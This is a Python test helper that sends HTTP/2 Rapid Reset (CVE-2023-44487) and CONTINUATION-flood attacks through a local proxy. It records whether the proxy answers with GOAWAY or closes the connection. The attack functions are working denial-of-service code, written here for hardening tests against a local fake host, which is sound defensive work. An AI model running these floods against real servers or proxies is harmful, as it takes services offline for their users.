"""HTTP/2 abuse of an intercepted keygate connection (tests/integration/hardening.rs).

    python h2flood.py PROXY HOST CA_PEM DUMMY MODE COUNT

CONNECTs through the proxy at PROXY (host:port) to HOST:443, does TLS trusting only
CA_PEM with ALPN h2, and then, with the `h2` package (frames it will not send, from
`hyperframe`):

* rapid-reset: COUNT streams, each a complete GET (HEADERS with END_STREAM, carrying
  `x-api-key: DUMMY`) at once followed by RST_STREAM(CANCEL): CVE-2023-44487.
* continuation-empty: one HEADERS without END_HEADERS, then up to COUNT empty
  CONTINUATION frames (CVE-2024-27316 style; a frame-count limit must stop it).
* continuation-fat: the same with CONTINUATION frames of ~16 KB of header data each (a
  header-list size limit must stop it).

It stops early when the proxy sends GOAWAY, closes or resets the connection, or stops
reading (a write that blocks for longer than TIMEOUT). Prints one JSON line: what was
sent, and what the proxy answered (its SETTINGS, GOAWAY code, response heads, stream
resets, close).
Everything goes to 127.0.0.1 only: the proxy resolves HOST to a local fake.
"""

import json
import select
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.exceptions
from hpack import NeverIndexedHeaderTuple
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    RstStreamFrame,
    SettingsFrame,
)

# Below the Rust side's bound on the whole run (support::WAIT, 10 s).
TIMEOUT = 6
# How long to wait for the proxy's reaction once everything is sent.
SETTLE = 4
# Frames (or streams) written per socket write.
BATCH = 32
# SETTINGS parameters (RFC 9113 §6.5.2) by their names in the report.
SETTING_NAMES = {
    SettingsFrame.HEADER_TABLE_SIZE: "header_table_size",
    SettingsFrame.ENABLE_PUSH: "enable_push",
    SettingsFrame.MAX_CONCURRENT_STREAMS: "max_concurrent_streams",
    SettingsFrame.INITIAL_WINDOW_SIZE: "initial_window_size",
    SettingsFrame.MAX_FRAME_SIZE: "max_frame_size",
    SettingsFrame.MAX_HEADER_LIST_SIZE: "max_header_list_size",
}


class Observer:
    """What the proxy sent, parsed frame by frame with hyperframe."""

    def __init__(self):
        self.buf = b""
        self.goaway = None
        self.responses = 0
        self.server_resets = 0
        self.closed = None
        self.settings_to_ack = 0
        # The server's SETTINGS, by name (`max_concurrent_streams`, …).
        self.settings = {}

    def feed(self, data):
        self.buf += data
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                return
            frame.parse_body(memoryview(self.buf[9 : 9 + length]))
            self.buf = self.buf[9 + length :]
            if isinstance(frame, GoAwayFrame):
                try:
                    name = h2.errors.ErrorCodes(frame.error_code).name
                except ValueError:
                    name = str(frame.error_code)
                self.goaway = {
                    "error_code": frame.error_code,
                    "error": name,
                    "last_stream_id": frame.last_stream_id,
                    "debug": bytes(frame.additional_data).decode("latin-1"),
                }
            elif isinstance(frame, HeadersFrame):
                self.responses += 1
            elif isinstance(frame, RstStreamFrame):
                self.server_resets += 1
            elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                self.settings_to_ack += 1
                for key, value in frame.settings.items():
                    self.settings[SETTING_NAMES.get(key, str(key))] = value

    def done(self):
        return self.closed is not None


class Session:
    """A TLS connection through the proxy, with an h2 client state machine on it."""

    def __init__(self, proxy, host, ca):
        phost, pport = proxy.rsplit(":", 1)
        sock = socket.create_connection((phost, int(pport)), timeout=TIMEOUT)
        connect = f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n"
        sock.sendall(connect.encode())
        head = b""
        while b"\r\n\r\n" not in head:
            byte = sock.recv(1)
            if not byte:
                sys.exit("the proxy closed during CONNECT")
            head += byte
        if head.split(b" ", 2)[1] != b"200":
            sys.exit(f"CONNECT refused: {head!r}")
        context = ssl.create_default_context(cafile=ca)
        context.set_alpn_protocols(["h2"])
        self.tls = context.wrap_socket(sock, server_hostname=host)
        if self.tls.selected_alpn_protocol() != "h2":
            sys.exit("the proxy did not agree to h2")
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        self.conn = h2.connection.H2Connection(config=config)
        self.conn.initiate_connection()
        self.lib_ok = True
        self.seen = Observer()
        self.send_error = None
        self.write(b"")

    def write(self, raw):
        """Writes what the h2 state machine has queued, then `raw`; False once the
        connection is unusable."""
        data = self.conn.data_to_send() + raw
        if self.seen.settings_to_ack and not self.lib_ok:
            ack = SettingsFrame(0, flags=["ACK"]).serialize()
            data = ack * self.seen.settings_to_ack + data
            self.seen.settings_to_ack = 0
        try:
            self.tls.sendall(data)
            return True
        except (OSError, ssl.SSLError) as e:
            # The proxy closed: what it sent before (a GOAWAY) may still be readable.
            self.send_error = type(e).__name__
            return False

    def pump(self, wait):
        """Reads what has arrived (waiting up to `wait` seconds for the first bytes)."""
        deadline = time.monotonic() + wait
        while not self.seen.done():
            left = max(0.0, deadline - time.monotonic())
            if not self.tls.pending():
                ready, _, _ = select.select([self.tls], [], [], left)
                if not ready:
                    return
            try:
                data = self.tls.recv(65536)
            except ssl.SSLWantReadError:
                continue
            except (OSError, ssl.SSLError) as e:
                self.seen.closed = f"recv: {type(e).__name__}"
                return
            if not data:
                self.seen.closed = "eof"
                return
            self.seen.feed(data)
            if self.lib_ok:
                try:
                    self.conn.receive_data(data)
                    self.seen.settings_to_ack = 0
                except h2.exceptions.H2Error:
                    # Frames the state machine did not send itself (the CONTINUATION
                    # flood) can confuse it; the raw observer goes on.
                    self.lib_ok = False
            wait = 0
            deadline = time.monotonic()


def request(host, path, dummy):
    return [
        (":method", "GET"),
        (":scheme", "https"),
        (":authority", host),
        (":path", path),
        ("x-api-key", dummy),
    ]


def rapid_reset(session, host, dummy, count):
    sent = 0
    while sent < count and not session.seen.done() and session.seen.goaway is None:
        try:
            for _ in range(min(BATCH, count - sent)):
                sid = session.conn.get_next_available_stream_id()
                headers = request(host, f"/rapid/{sent}", dummy)
                session.conn.send_headers(sid, headers, end_stream=True)
                session.conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
                sent += 1
        except h2.exceptions.H2Error as e:
            # The state machine refuses to go on (e.g. after the proxy's GOAWAY).
            session.send_error = type(e).__name__
            break
        if not session.write(b""):
            break
        session.pump(0)
    return sent


def continuation_flood(session, host, dummy, count, fat):
    sid = session.conn.get_next_available_stream_id()
    block = session.conn.encoder.encode(request(host, "/continuation", dummy))
    # END_STREAM but no END_HEADERS: the header block never ends.
    first = HeadersFrame(sid, data=block, flags=["END_STREAM"]).serialize()
    if not session.write(first):
        return 0
    sent = 0
    while sent < count and not session.seen.done():
        frames = []
        for _ in range(min(BATCH, count - sent)):
            data = b""
            if fat:
                header = NeverIndexedHeaderTuple(f"x-flood-{sent}", "a" * 16000)
                data = session.conn.encoder.encode([header], huffman=False)
            frames.append(ContinuationFrame(sid, data=data).serialize())
            sent += 1
        if not session.write(b"".join(frames)):
            break
        session.pump(0)
    return sent


def main():
    proxy, host, ca, dummy, mode, count = sys.argv[1:7]
    count = int(count)
    session = Session(proxy, host, ca)
    session.pump(0.2)
    if mode == "rapid-reset":
        sent = rapid_reset(session, host, dummy, count)
    elif mode == "continuation-empty":
        sent = continuation_flood(session, host, dummy, count, fat=False)
    elif mode == "continuation-fat":
        sent = continuation_flood(session, host, dummy, count, fat=True)
    else:
        sys.exit(f"unknown mode {mode}")
    # Wait for the proxy's reaction: a GOAWAY and the close, or neither.
    deadline = time.monotonic() + SETTLE
    while not session.seen.done() and time.monotonic() < deadline:
        session.pump(deadline - time.monotonic())
    seen = session.seen
    print(
        json.dumps(
            {
                "mode": mode,
                "count": count,
                "sent": sent,
                "send_error": session.send_error,
                "goaway": seen.goaway,
                "responses": seen.responses,
                "server_resets": seen.server_resets,
                "closed": seen.closed,
                "settings": seen.settings,
            }
        )
    )


if __name__ == "__main__":
    main()
